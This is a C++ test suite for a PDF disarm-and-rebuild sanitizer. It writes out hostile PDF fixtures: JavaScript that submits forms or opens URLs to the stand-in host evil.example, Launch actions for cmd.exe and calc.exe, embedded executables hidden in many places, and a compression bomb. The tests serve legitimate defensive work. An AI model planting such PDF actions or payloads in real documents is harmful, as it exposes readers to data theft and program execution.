// PDF disarmed from hand-written files: JavaScript and dangerous actions wherever they hide
// (catalog, pages, annotations, fields, name trees, object streams, incremental updates,
// hex-escaped names), encryption, and hostile structure (cycles, a compression bomb).
#include <gtest/gtest.h>

#define POINTERHOLDER_TRANSITION 4
#include <qpdf/QPDF.hh>
#include <qpdf/QPDFPageDocumentHelper.hh>
#include <qpdf/QPDFWriter.hh>

#include <algorithm>
#include <filesystem>

#include "cdr/fixtures.h"
#include "support/ppap.h"
#include "support/files.h"

namespace sanso::cdr {
namespace {

using fixtures::kinds;

// A PDF from numbered object bodies, with a correct cross-reference table; `trailer` adds keys.
std::string pdf(const std::vector<std::string>& objects, const std::string& root = "1 0 R", const std::string& trailer = "") {
  std::string out = "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n";
  std::string xref = "xref\n0 " + std::to_string(objects.size() + 1) + "\n0000000000 65535 f \n";
  for (std::size_t i = 0; i < objects.size(); ++i) {
    char line[32];
    std::snprintf(line, sizeof line, "%010zu 00000 n \n", out.size());
    xref += line;
    out += std::to_string(i + 1) + " 0 obj\n" + objects[i] + "\nendobj\n";
  }
  std::size_t at = out.size();
  out += xref + "trailer\n<< /Size " + std::to_string(objects.size() + 1) + " /Root " + root + " " + trailer + " >>\nstartxref\n" + std::to_string(at) + "\n%%EOF\n";
  return out;
}

// What the second reader (qpdf, every object) still finds in a rebuilt PDF.
std::vector<std::string> remnants(const CdrResult& r) {
  EXPECT_FALSE(r.output.empty()) << "no output to check";
  return internal::pdf_active_content(r.output);
}

// `depth` levels of `open`, then `core`, then as many `close`.
std::string nest(int depth, const std::string& open, const std::string& core, const std::string& close) {
  std::string out;
  for (int i = 0; i < depth; ++i) out += open;
  out += core;
  for (int i = 0; i < depth; ++i) out += close;
  return out;
}

std::string hostile_pdf() {
  return pdf({
      "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 6 0 R >> /Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >> /AcroForm << /Fields [] /XFA 10 0 R >> >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R 11 0 R 12 0 R] /AA << /O 6 0 R >> >>",
      "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (cmd.exe) >> >>",
      "<< /Type /Action /S /J#61vaScript /JS (app.alert\\(1\\)) >>",
      "<< /S /JavaScript /JS (this.submitForm\\('http://evil.example'\\)) >>",
      "<< /Names [(a) 8 0 R] >>",
      "<< /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >>",
      "<< /Names [(payload.exe) << /Type /Filespec /F (payload.exe) /EF << /F 13 0 R >> >>] >>",
      "<< /Length 5 >>\nstream\n<xdp>\nendstream",
      "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (x.exe) >> >>",
      "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.city.minamata.lg.jp/) /Next << /S /SubmitForm /F (http://evil.example) >> >> >>",
      "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
  });
}

TEST(CdrPdf, RemovesJavaScriptActionsEmbeddedFilesAndXfa) {
  CdrResult r = sanitize(hostile_pdf(), "通知.pdf", {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  auto k = kinds(r);
  for (const char* want : {"pdf_open_action", "pdf_additional_actions", "pdf_javascript", "pdf_embedded_file", "pdf_xfa", "pdf_launch", "pdf_file_attachment"}) {
    EXPECT_TRUE(k.count(want)) << want;
  }
  for (const char* gone : {"/JavaScript", "/JS", "/Launch", "/OpenAction", "/XFA", "/EmbeddedFiles", "/FileAttachment", "/SubmitForm", "cmd.exe", "evil.example"}) {
    EXPECT_EQ(r.output.find(gone), std::string::npos) << gone << " survived";
  }
  EXPECT_NE(r.output.find("minamata"), std::string::npos) << "a web link stays unless the policy removes URIs";
  EXPECT_EQ(remnants(r), std::vector<std::string>{});
  CdrResult again = sanitize(r.output, "通知.pdf", {});
  EXPECT_EQ(again.verdict, Verdict::clean) << (again.findings.empty() ? again.message : std::string(to_string(again.findings[0].kind)));
}

TEST(CdrPdf, UriActionsGoWhenThePolicySaysSo) {
  CdrPolicy policy;
  policy.remove_pdf_uri = true;
  CdrResult r = sanitize(hostile_pdf(), "a.pdf", policy);
  ASSERT_EQ(r.verdict, Verdict::sanitized);
  EXPECT_TRUE(kinds(r).count("pdf_uri"));
  EXPECT_EQ(r.output.find("minamata"), std::string::npos);
}

TEST(CdrPdf, JavaScriptAddedByAnIncrementalUpdateOrHiddenInAnObjectStreamIsFound) {
  std::string base = pdf({"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>"});
  // Revision 2 rewrites the catalog with an OpenAction.
  std::size_t prev = base.rfind("startxref\n") + 10;
  std::string prev_xref = base.substr(prev, base.find('\n', prev) - prev);
  std::string update = "1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n";
  std::size_t o1 = base.size();
  std::size_t o4 = o1 + update.size();
  update += "4 0 obj\n<< /S /JavaScript /JS (app.alert\\(2\\)) >>\nendobj\n";
  char xref[256];
  std::snprintf(xref, sizeof xref, "xref\n1 1\n%010zu 00000 n \n4 1\n%010zu 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %s >>\nstartxref\n%zu\n%%%%EOF\n", o1, o4,
                prev_xref.c_str(), o1 + update.size());
  std::string updated = base + update + xref;
  CdrResult r = sanitize(updated, "a.pdf", {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("pdf_open_action"));
  EXPECT_EQ(r.output.find("app.alert"), std::string::npos);

  // The same file with every object in object streams.
  QPDF in;
  in.processMemoryFile("updated", updated.data(), updated.size());
  QPDFWriter w(in);
  w.setOutputMemory();
  w.setObjectStreamMode(qpdf_o_generate);
  w.setCompressStreams(true);
  w.write();
  auto buf = w.getBufferSharedPointer();
  std::string packed(reinterpret_cast<const char*>(buf->getBuffer()), buf->getSize());
  ASSERT_EQ(packed.find("/OpenAction"), std::string::npos) << "the test file should hide the catalog in an object stream";
  CdrResult p = sanitize(packed, "packed.pdf", {});
  ASSERT_EQ(p.verdict, Verdict::sanitized) << p.message;
  EXPECT_TRUE(kinds(p).count("pdf_open_action"));
  EXPECT_TRUE(kinds(p).count("pdf_javascript"));
}

TEST(CdrPdf, EncryptionWithAnEmptyUserPasswordIsRemovedOtherwiseBlocked) {
  std::string plain = hostile_pdf();
  auto encrypt = [&](const char* user) { return sanso::testing::encrypted_pdf(plain, user); };
  CdrResult open = sanitize(encrypt(""), "a.pdf", {});
  ASSERT_EQ(open.verdict, Verdict::sanitized) << open.message;
  EXPECT_TRUE(kinds(open).count("pdf_encryption_removed"));
  EXPECT_TRUE(kinds(open).count("pdf_javascript"));
  EXPECT_EQ(open.output.find("/Encrypt"), std::string::npos);
  CdrResult locked = sanitize(encrypt("secret"), "a.pdf", {});
  EXPECT_EQ(locked.verdict, Verdict::blocked);
  EXPECT_EQ(locked.reason, "encrypted");
}

TEST(CdrPdf, CyclesAndACompressionBombDoNotHangOrExpand) {
  // 64 MiB of zeros deflated to ~64 KiB: never decoded by the rebuild.
  std::string bomb = fixtures::deflate_raw(std::string(std::size_t{64} << 20, '\0'));
  std::string zlib = std::string("\x78\x9C", 2) + bomb;  // a zlib header over the raw deflate data
  std::string content = "<< /Length " + std::to_string(zlib.size()) + " /Filter /FlateDecode >>\nstream\n" + zlib + "\nendstream";
  std::string cyclic = pdf({"<< /Type /Catalog /Pages 2 0 R /Loop 5 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R >>",
                            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] /Contents 4 0 R >>", content, "<< /Next 5 0 R /Self 5 0 R >>"});
  CdrResult r = sanitize(cyclic, "a.pdf", {});
  EXPECT_NE(r.verdict, Verdict::blocked) << r.message;
  EXPECT_LT(r.output.size(), std::size_t{1} << 20) << "the bomb was expanded";
}

// PDF 2.0 associated files hang from almost any object. Each path to the file's bytes goes: /AF
// on the catalog, a page (as an indirect array), an annotation (a direct file specification), a
// structure element, a form XObject and a marked-content property list; /EF and /RF of the file
// specifications. The embedded stream has no /Type, as the format allows, so only the paths to it
// say what it is.
TEST(CdrPdf, AssociatedFilesGoWhereverTheyHang) {
  const std::string payload = "MZ-associated-payload";
  const std::string hostile = pdf({
      "<< /Type /Catalog /Pages 2 0 R /AF [5 0 R] /StructTreeRoot 8 0 R /MarkInfo << /Marked true >> >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AF 6 0 R /Annots [4 0 R] /Contents 12 0 R"
      " /Resources << /XObject << /X0 9 0 R >> /Properties << /MC0 << /AF [10 0 R] >> >> >> >>",
      "<< /Type /Annot /Subtype /Square /Rect [0 0 10 10] /AF [<< /Type /Filespec /F (annot.bin) /EF << /F 7 0 R >> >>] >>",
      "<< /Type /Filespec /F (catalog.exe) /UF (catalog.exe) /AFRelationship /Source /EF << /F 7 0 R /UF 7 0 R >> >>",
      "[5 0 R]",
      "<< /Length " + std::to_string(payload.size()) + " >>\nstream\n" + payload + "\nendstream",
      "<< /Type /StructTreeRoot /K << /Type /StructElem /S /Document /AF [10 0 R] >> >>",
      "<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /AF [5 0 R] /Length 0 >>\nstream\n\nendstream",
      "<< /Type /Filespec /F (related.exe) /EF << /F 7 0 R >> /RF << /F 11 0 R >> >>",
      "[(part1.exe) 7 0 R]",
      "<< /Length 18 >>\nstream\n/P <</MCID 0>> BDC\nendstream",
  });
  ASSERT_FALSE(internal::pdf_active_content(hostile).empty()) << "the checker should see the associated files in the input";
  CdrResult r = sanitize(hostile, "pdf20.pdf", {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("pdf_associated_file"));
  EXPECT_EQ(remnants(r), std::vector<std::string>{});
  EXPECT_EQ(r.output.find(payload), std::string::npos) << "the associated file's bytes were written";
  for (const char* name : {"catalog.exe", "annot.bin", "related.exe", "part1.exe"}) EXPECT_EQ(r.output.find(name), std::string::npos) << name;
  CdrResult again = sanitize(r.output, "pdf20.pdf", {});
  EXPECT_EQ(again.verdict, Verdict::clean) << (again.findings.empty() ? again.message : std::string(to_string(again.findings[0].kind)) + " at " + again.findings[0].location);
}

// A file specification with /EF reached from anywhere else loses its bytes too: a
// file-attachment annotation that is not on a page (only the structure tree points at it), an
// embedded-file stream under an unknown key, a filespec nested deep inside an unknown array.
TEST(CdrPdf, EmbeddedFilesGoWhateverHoldsThem) {
  const std::string hostile = pdf({
      "<< /Type /Catalog /Pages 2 0 R /StructTreeRoot 4 0 R /Custom << /Data 6 0 R /Deep " +
          nest(30, "[", "<< /Type /Filespec /F (deep.exe) /EF << /F 7 0 R >> >>", "]") + " >> >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
      "<< /Type /StructTreeRoot /K << /S /Figure /K << /Type /OBJR /Obj 5 0 R >> >> >>",
      "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (hidden.exe) /EF << /F 7 0 R >> >> >>",
      "<< /Type /EmbeddedFile /Length 13 >>\nstream\nMZ-typed-file\nendstream",
      "<< /Length 15 >>\nstream\nMZ-untyped-file\nendstream",
  });
  CdrResult r = sanitize(hostile, "a.pdf", {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("pdf_embedded_file"));
  EXPECT_EQ(remnants(r), std::vector<std::string>{});
  for (const char* gone : {"MZ-typed-file", "MZ-untyped-file"}) EXPECT_EQ(r.output.find(gone), std::string::npos) << gone;
}

// Actions nested deeper than any fixed limit: a /Next chain of direct actions, a form field
// /Kids tree of direct dictionaries and an array nest, each 70 and 200 levels down (qpdf reads
// nesting up to 500).
TEST(CdrPdf, ActionsAtAnyDepthAreFound) {
  for (int depth : {70, 200}) {
    const std::string next_chain = nest(depth, "<< /S /GoTo /D [3 0 R /Fit] /Next ", "<< /S /JavaScript /JS (deep_next\\(\\)) >>", " >>");
    const std::string kids_tree = nest(depth, "<< /T (f) /Kids [", "<< /FT /Btn /T (b) /A << /S /Launch /F (deep_kids.exe) >> >>", "] >>");
    const std::string array_nest = nest(depth, "[", "<< /S /Launch /F (deep_array.exe) >>", "]");
    const std::string hostile = pdf({
        "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [" + kids_tree + "] >> /Extra " + array_nest + " >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + next_chain + " >>",
    });
    CdrResult r = sanitize(hostile, "deep.pdf", {});
    ASSERT_EQ(r.verdict, Verdict::sanitized) << depth << ": " << r.message;
    EXPECT_TRUE(kinds(r).count("pdf_javascript")) << depth;
    EXPECT_TRUE(kinds(r).count("pdf_launch")) << depth;
    EXPECT_EQ(remnants(r), std::vector<std::string>{}) << depth;
    for (const char* gone : {"deep_next", "deep_kids.exe", "deep_array.exe"}) EXPECT_EQ(r.output.find(gone), std::string::npos) << depth << ": " << gone;
    EXPECT_NE(r.output.find("/GoTo"), std::string::npos) << depth << ": the harmless jumps before the script stay";
  }
}

// In an action position only the harmless action types stay: a thread in another file, a named
// menu command and an action type nobody defines go; page moves, jumps and local threads stay.
// The opening action stays only as a jump within the document.
TEST(CdrPdf, OnlyHarmlessActionTypesStay) {
  auto link = [](const std::string& action) { return "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + action + " >>"; };
  const std::string hostile = pdf({
      "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /Threads [11 0 R] >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R 5 0 R 6 0 R 7 0 R 8 0 R 9 0 R 10 0 R] >>",
      link("<< /S /Thread /F (other.pdf) /D 0 >>"),
      link("<< /S /Named /N /SaveAs >>"),
      link("<< /S /SansoInvented /Target (x) >>"),
      link("<< /S /Named /N /NextPage >>"),
      link("<< /S /GoTo /D [3 0 R /Fit] >>"),
      link("<< /S /Thread /D 11 0 R >>"),
      "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /PA << /Type /Action /S /Launch /Win << /F (calc.exe) >> >> >>",
      "<< /Type /Thread /I << /Title (story) >> >>",
  });
  CdrResult r = sanitize(hostile, "a.pdf", {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  auto k = kinds(r);
  for (const char* want : {"pdf_remote_goto", "pdf_named_action", "pdf_unknown_action", "pdf_launch"}) EXPECT_TRUE(k.count(want)) << want;
  EXPECT_FALSE(k.count("pdf_open_action")) << "a jump to the first page is not an action to remove";
  for (const char* gone : {"other.pdf", "/SaveAs", "SansoInvented", "calc.exe"}) EXPECT_EQ(r.output.find(gone), std::string::npos) << gone;
  for (const char* kept : {"/NextPage", "/OpenAction", "/GoTo"}) EXPECT_NE(r.output.find(kept), std::string::npos) << kept;
  EXPECT_EQ(remnants(r), std::vector<std::string>{});

  for (const char* open : {"<< /S /URI /URI (https://tracker.example/open) >>", "<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>",
                           "<< /S /GoTo /D [3 0 R /Fit] /JS (app.alert\\(1\\)) >>", "(a string)"}) {
    CdrResult o = sanitize(pdf({std::string("<< /Type /Catalog /Pages 2 0 R /OpenAction ") + open + " >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"}),
                           "a.pdf", {});
    ASSERT_EQ(o.verdict, Verdict::sanitized) << open << ": " << o.message;
    EXPECT_TRUE(kinds(o).count("pdf_open_action")) << open;
    EXPECT_EQ(o.output.find("/OpenAction"), std::string::npos) << open;
  }
}

// Nothing but the document hangs from the rebuilt trailer; objects nothing references are not
// written; name dictionaries keep only destinations and the like; a stream does not read its data
// from an outside file.
TEST(CdrPdf, TrailerOrphansNameTreesAndExternalStreams) {
  const std::string hostile = pdf(
      {
          "<< /Type /Catalog /Pages 2 0 R /Names << /Dests 5 0 R /Renditions 6 0 R /SansoTree 6 0 R >> >>",
          "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
          "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
          "<< /Length 0 /F (\\\\\\\\server\\\\share\\\\content.bin) /FFilter /FlateDecode >>\nstream\n\nendstream",
          "<< /Names [(home) [3 0 R /Fit]] >>",
          "<< /Names [(clip) << /S /MCD /D << /Type /Filespec /F (movie.exe) >> >>] >>",
          "<< /S /JavaScript /JS (orphan_js\\(\\)) >>",
      },
      "1 0 R", "/Evil << /S /JavaScript /JS (trailer_js\\(\\)) >> /Also 7 0 R");
  CdrResult r = sanitize(hostile, "a.pdf", {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  auto k = kinds(r);
  for (const char* want : {"pdf_rich_media", "pdf_name_tree", "pdf_external_stream", "pdf_javascript"}) EXPECT_TRUE(k.count(want)) << want;
  for (const char* gone : {"trailer_js", "orphan_js", "/Evil", "/Also", "movie.exe", "server", "/FFilter", "SansoTree"}) {
    EXPECT_EQ(r.output.find(gone), std::string::npos) << gone;
  }
  EXPECT_NE(r.output.find("/Dests"), std::string::npos);
  EXPECT_EQ(remnants(r), std::vector<std::string>{});
}

// A damaged cross-reference table (one entry points at the wrong place) makes qpdf rebuild the
// table by scanning the file, which finds an object the table never listed: it is visited too.
TEST(CdrPdf, ObjectsFoundByRepairingTheCrossReferenceTableAreVisited) {
  std::string out = "%PDF-1.7\n";
  std::vector<std::size_t> at;
  const std::vector<std::string> bodies = {"<< /Type /Catalog /Pages 2 0 R /Extra 5 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                                           "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] /Annots [4 0 R] >>",
                                           "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A 5 0 R >>", "<< /S /JavaScript /JS (hidden_js\\(\\)) >>"};
  for (std::size_t i = 0; i < bodies.size(); ++i) {
    at.push_back(out.size());
    out += std::to_string(i + 1) + " 0 obj\n" + bodies[i] + "\nendobj\n";
  }
  const std::size_t xref = out.size();
  out += "xref\n0 5\n0000000000 65535 f \n";  // object 5 is not listed; object 4's offset is wrong
  for (std::size_t i = 0; i < 4; ++i) {
    char line[32];
    std::snprintf(line, sizeof line, "%010zu 00000 n \n", i == 3 ? std::size_t{3} : at[i]);
    out += line;
  }
  out += "trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n" + std::to_string(xref) + "\n%%EOF\n";
  CdrResult r = sanitize(out, "damaged.pdf", {});
  ASSERT_NE(r.verdict, Verdict::blocked) << r.message;
  EXPECT_EQ(r.output.find("hidden_js"), std::string::npos);
  EXPECT_EQ(remnants(r), std::vector<std::string>{});
}

TEST(CdrPdf, ACatalogThatIsItselfAnActionIsBlocked) {
  CdrResult r = sanitize(pdf({"<< /Type /Catalog /Pages 2 0 R /S /JavaScript /JS (app.alert\\(1\\)) >>", "<< /Type /Pages /Kids [] /Count 0 >>"}), "a.pdf", {});
  EXPECT_EQ(r.verdict, Verdict::blocked);
  EXPECT_EQ(r.reason, "active-content") << r.message;
}

// The same third-party file with its file specifications hung, PDF 2.0 style, from /AF on the
// catalog and on every page as well; "" when it has no embedded file (or qpdf cannot open it).
std::string with_associated_files(const std::string& bytes) {
  try {
    QPDF q;
    q.setSuppressWarnings(true);
    q.processMemoryFile("corpus", bytes.data(), bytes.size());
    QPDFObjectHandle specs = QPDFObjectHandle::newArray();
    for (QPDFObjectHandle& o : q.getAllObjects()) {
      if (o.isDictionary() && o.hasKey("/EF")) specs.appendItem(o);
    }
    if (specs.getArrayNItems() == 0) return "";
    q.getRoot().replaceKey("/AF", specs);
    for (QPDFPageObjectHelper& page : QPDFPageDocumentHelper(q).getAllPages()) page.getObjectHandle().replaceKey("/AF", specs);
    QPDFWriter w(q);
    w.setOutputMemory();
    w.write();
    auto buf = w.getBufferSharedPointer();
    return std::string(reinterpret_cast<const char*>(buf->getBuffer()), buf->getSize());
  } catch (const std::exception&) {
    return "";
  }
}

// The public PDFs of the shared corpus (pdf.js's test files among them) carry attachments,
// scripts and XFA; their attachments are also tried as associated files. Whatever is rebuilt
// keeps none of it, as qpdf reads the output.
TEST(CdrPdf, NoRebuiltCorpusPdfKeepsActiveContentOrEmbeddedFiles) {
  namespace fs = std::filesystem;
  const fs::path corpus = fs::path(SANSO_SHARED_DIR) / "corpora/files";
  if (!fs::exists(corpus)) GTEST_SKIP() << "no public test files at " << corpus << " (../shared/corpora absent)";
  std::size_t rebuilt = 0, with_files = 0;
  for (const auto& entry : fs::recursive_directory_iterator(corpus)) {
    if (!entry.is_regular_file()) continue;
    const std::string bytes = sanso::testing::read_file(entry.path());
    if (bytes.rfind("%PDF-", 0) != 0) continue;
    const std::string rel = fs::relative(entry.path(), corpus).string();
    const std::string associated = with_associated_files(bytes);
    with_files += associated.empty() ? 0 : 1;
    for (const std::string* variant : {&bytes, &associated}) {
      if (variant->empty()) continue;
      const std::string label = rel + (variant == &associated ? " (as associated files)" : "");
      CdrResult r = sanitize(*variant, entry.path().filename().string(), {});
      if (r.verdict == Verdict::blocked) continue;
      ++rebuilt;
      EXPECT_EQ(internal::pdf_active_content(r.output), std::vector<std::string>{}) << label;
      if (variant == &associated) EXPECT_TRUE(kinds(r).count("pdf_associated_file")) << label;
    }
  }
  EXPECT_GT(rebuilt, 0u);
  EXPECT_GT(with_files, 0u) << "the corpus should hold PDFs with embedded files for this test to mean something";
}

TEST(CdrPdf, GarbageIsBlockedAsMalformed) {
  CdrResult r = sanitize("%PDF-1.7\n\x01\x02 this is not a pdf", "a.pdf", {});
  EXPECT_EQ(r.verdict, Verdict::blocked);
  EXPECT_EQ(r.reason, "malformed");
}

}  // namespace
}  // namespace sanso::cdr
